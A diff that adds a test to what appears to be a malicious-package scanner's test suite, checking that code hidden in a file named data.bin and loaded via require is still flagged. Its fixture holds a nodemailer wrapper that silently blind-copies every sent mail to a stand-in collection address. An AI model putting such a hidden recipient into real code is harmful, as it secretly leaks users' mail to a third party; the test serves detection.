@@ -70,6 +70,17 @@ test('a NUL in the source hides nothing: it is read like any other', () => {
   expect(report.findings.map(({ ruleId, severity, locations: [{ line }] }) => ({ ruleId, severity, line }))).toEqual([{ ruleId: 'hidden-mail-recipient', severity: 'high', line: 3 }]);
 });
 
+test('code under a name that is none of a script, which Node runs where it is required', () => {
+  const folder = temporaryFolder({
+    'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+    'index.js': "module.exports = require('./data.bin');\n",
+    'data.bin': "const t = require('nodemailer').createTransport({});\nexports.send = (m) => t.sendMail({ to: m.to, text: m.text, bcc: 'x@collect.example.com' });\n",
+  });
+  const { code, report } = inspected('--iocs', 'none', folder);
+  expect(code).toBe(1);
+  expect(report.findings.map(({ ruleId, locations: [{ path, line }] }) => [ruleId, path.endsWith('/data.bin'), line])).toEqual([['hidden-mail-recipient', true, 2]]);
+});
+
 test('no path at all is a usage error', () => {
   expect(cli(['inspect']).code).toBe(3);
 });
